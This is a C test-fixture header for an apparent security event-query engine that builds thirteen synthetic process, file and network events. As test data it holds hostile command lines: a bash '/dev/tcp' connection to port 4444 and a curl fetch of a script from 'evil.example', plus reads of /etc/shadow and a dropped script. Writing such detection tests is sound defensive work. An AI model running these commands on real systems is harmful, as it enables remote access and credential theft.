/* SPDX-License-Identifier: Apache-2.0 */
/* query_fixture - the thirteen events of docs/query.md ("The events of the examples") as a block.
 */
#pragma once
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "lib/batch.h"
#include "lib/block.h"
#include "lib/eql.h"
#include "lib/expr_kin.h"
#include "lib/pipe_run.h"
#include "lib/timestamp.h"

struct fixture {
	struct batch *batch;
	struct block *block;
	struct expr_scratch *scratch;
	uint64_t seq;
};

static inline void fixture_str(struct fixture *f, enum kind kind, enum field field, const char *s)
{
	if (s)
		batch_set_str(f->batch, kind, field, s, strlen(s));
}

static inline void fixture_list(struct fixture *f, enum kind kind, enum field field,
				const char *const *s)
{
	uint32_t values[8];
	size_t n = 0;

	for (; s[n]; n++)
		values[n] = batch_string(f->batch, s[n], strlen(s[n]));
	batch_set_list(f->batch, kind, field, values, n);
}

struct fixture_process {
	uint64_t pid;
	uint32_t parent;
	const char *executable, *user;
	uint64_t uid;
	const char *args[6];
};

static inline void fixture_add_process(struct fixture *f, const struct fixture_process *p)
{
	batch_process_add(f->batch, 0xabc000 + p->pid, 0);
	batch_set(f->batch, KIND_NONE, FIELD_PID, p->pid);
	batch_set(f->batch, KIND_NONE, FIELD_USER_ID, p->uid);
	fixture_str(f, KIND_NONE, FIELD_USER_NAME, p->user);
	fixture_str(f, KIND_NONE, FIELD_EXECUTABLE, p->executable);
	fixture_str(f, KIND_NONE, FIELD_NAME, strrchr(p->executable, '/') + 1);
	fixture_list(f, KIND_NONE, FIELD_ARGS, p->args);
	if (p->parent)
		batch_set_row(f->batch, KIND_NONE, FIELD_PARENT, p->parent);
	if (p->pid >= 1300) {
		batch_set_row(f->batch, KIND_NONE, FIELD_SESSION_LEADER, 3);
		fixture_str(f, KIND_NONE, FIELD_TTY, "pts/0");
	}
}

static inline void fixture_processes(struct fixture *f)
{
	static const struct fixture_process all[] = {
		{ 1, 0, "/usr/lib/systemd/systemd", "root", 0, { "/sbin/init" } },
		{ 700, 1, "/usr/sbin/sshd", "root", 0, { "sshd:", "alice" } },
		{ 1200, 2, "/usr/bin/bash", "alice", 1000, { "-bash" } },
		{ 1300,
		  3,
		  "/usr/bin/bash",
		  "alice",
		  1000,
		  { "bash", "-c", "cat </dev/tcp/203.0.113.9/4444" } },
		{ 1301,
		  3,
		  "/usr/bin/curl",
		  "alice",
		  1000,
		  { "curl", "-s", "http://evil.example/x.sh" } },
	};

	for (size_t i = 0; i < ARRAY_SIZE(all); i++)
		fixture_add_process(f, &all[i]);
}

/* One minute apart, from 2026-11-22T21:00:00Z on. */
static inline void fixture_event(struct fixture *f, enum kind kind, uint32_t process)
{
	uint64_t t = 0;

	assert_int_equal(timestamp_parse("2026-11-22T21:00:00Z", 20, 0, &t, NULL), 0);
	f->seq++;
	batch_event(f->batch, kind, f->seq, t + f->seq * UINT64_C(60000000000));
	if (process)
		batch_set_row(f->batch, kind, FIELD_PROCESS, process);
}

static inline void fixture_file(struct fixture *f, enum kind kind, uint32_t process,
				const char *path, const char *error)
{
	fixture_event(f, kind, process);
	fixture_str(f, kind, FIELD_FILE_PATH, path);
	fixture_str(f, kind, FIELD_OUTCOME, error ? "failure" : "success");
	fixture_str(f, kind, FIELD_ERROR_CODE, error);
}

static inline void fixture_flow(struct fixture *f, enum kind kind, uint32_t process,
				const char *from, const char *to, uint64_t port)
{
	fixture_event(f, kind, process);
	fixture_str(f, kind, FIELD_SOURCE_IP, from);
	fixture_str(f, kind, FIELD_DEST_IP, to);
	batch_set(f->batch, kind, FIELD_DEST_PORT, port);
	fixture_str(f, kind, FIELD_TRANSPORT, "tcp");
}

static inline void fixture_events(struct fixture *f)
{
	static const char *const read[] = { "read", NULL }, *const write[] = { "write", "create",
									       NULL };

	fixture_event(f, KIND_FORK, 3);
	batch_set(f->batch, KIND_FORK, FIELD_CHILD_PID, 1300);
	fixture_event(f, KIND_EXEC, 4);
	fixture_event(f, KIND_EXEC, 5);
	fixture_file(f, KIND_OPEN, 4, "/etc/passwd", NULL);
	fixture_list(f, KIND_OPEN, FIELD_OPEN_FLAGS, read);
	fixture_file(f, KIND_OPEN, 4, "/etc/shadow", "EACCES");
	fixture_list(f, KIND_OPEN, FIELD_OPEN_FLAGS, read);
	fixture_file(f, KIND_CREATION, 5, "/tmp/x.sh", NULL);
	fixture_list(f, KIND_CREATION, FIELD_OPEN_FLAGS, write);
	fixture_file(f, KIND_RENAME, 5, "/usr/local/bin/Update.SH", NULL);
	fixture_str(f, KIND_RENAME, FIELD_FILE_ORIGINAL, "/tmp/x.sh");
	fixture_flow(f, KIND_CONNECT, 5, "10.0.0.5", "203.0.113.9", 443);
	fixture_flow(f, KIND_CONNECT, 4, "2001:db8::5", "2001:db8::9", 4444);
	fixture_flow(f, KIND_ACCEPT, 2, "10.1.2.3", "10.0.0.5", 22);
	fixture_event(f, KIND_END, 5);
	batch_set(f->batch, KIND_END, FIELD_EXIT_CODE, 0);
	fixture_event(f, KIND_END, 4);
	fixture_str(f, KIND_END, FIELD_EXIT_SIGNAL, "SIGKILL");
	fixture_event(f, KIND_GAP, 0);
	batch_set(f->batch, KIND_GAP, FIELD_GAP_COUNT, 12);
}

/* A batch of @origin with what @processes and @events add, sealed and loaded. */
static inline int fixture_make(void **state, const struct batch_origin *origin,
			       void (*processes)(struct fixture *f),
			       void (*events)(struct fixture *f))
{
	struct fixture *f = calloc(1, sizeof(*f));
	AUTO(frame_codec) *codec = NULL;
	AUTO_BUF struct buf frame = { 0 };
	struct diag d;

	if (!f || batch_new(&f->batch, origin) < 0 || block_new(&f->block) < 0 ||
	    frame_codec_new(&codec) < 0 || expr_scratch_new(&f->scratch) < 0)
		return -1;
	processes(f);
	events(f);
	*state = f;
	return batch_seal(f->batch, codec, NULL, f->seq + 1, 1, &frame) < 0 ||
	       block_load(f->block, frame.data, frame.n, &d) < 0;
}

static inline UNUSED int fixture_setup(void **state)
{
	const struct batch_origin origin = { .node_id = "web-1-id",
					     .node_name = "web-1",
					     .architecture = "aarch64",
					     .os_kernel = "6.1.0",
					     .agent_version = "0.1.0" };

	return fixture_make(state, &origin, fixture_processes, fixture_events);
}

static inline int fixture_teardown(void **state)
{
	struct fixture *f = *state;

	batch_free(f->batch);
	block_free(f->block);
	expr_scratch_free(f->scratch);
	free(f);
	return 0;
}

/* Bit n: event n (its sequence number) is a hit. */
static inline uint32_t fixture_eval(struct fixture *f, const struct expr *e)
{
	struct expr_kin *kins[EXPR_KINS];
	uint32_t all = 0, n_kins = expr_kins(e, kins);

	for (uint32_t i = 0; i < n_kins; i++)
		assert_int_equal(expr_kin_learn_block(kins[i], f->scratch, f->block), 0);
	assert_int_equal(expr_begin(f->scratch, e, f->block), 0);
	for (uint32_t t = 0; t < block_info(f->block)->n_tables; t++) {
		const uint64_t *seq = block_column(f->block, t, FIELD_SEQ);
		const uint64_t *hits;

		assert_int_equal(expr_eval(f->scratch, t, &hits), 0);
		for (uint32_t row = 0; row < block_rows(f->block, t); row++)
			if (hits[0] >> row & 1)
				all |= 1U << (seq[row] - 1);
	}
	return all;
}

static inline uint32_t fixture_hits(struct fixture *f, const char *query)
{
	AUTO(expr) *e = NULL;
	struct diag d = { 0 };

	if (eql_parse(&e, query, strlen(query), &d) < 0)
		fail_msg("%s\n%u:%u: %s", query, d.line, d.column, d.text);
	return fixture_eval(f, e);
}

/* The rows of a table as JSON, blanks between. */
static inline void fixture_table(struct fixture *f, const struct pipe *p, struct buf *out)
{
	const struct pipe_run_config config = { .pipe = p, .to_ns = UINT64_MAX };
	struct pipe_table_info info;
	AUTO(pipe_run) *run = NULL;

	assert_int_equal(pipe_run_new(&run, &config), 0);
	assert_int_equal(pipe_run_block(run, f->scratch, f->block), 0);
	assert_int_equal(pipe_run_finish(run), 0);
	pipe_run_info(run, &info);
	assert_false(info.truncated);
	for (uint32_t i = 0; i < info.n_rows; i++) {
		struct json j = json_to(out);

		buf_str(out, i ? " " : "");
		pipe_write_row(run, i, &j);
	}
	buf_byte(out, 0);
}

#define BIT(n) (1U << (n))
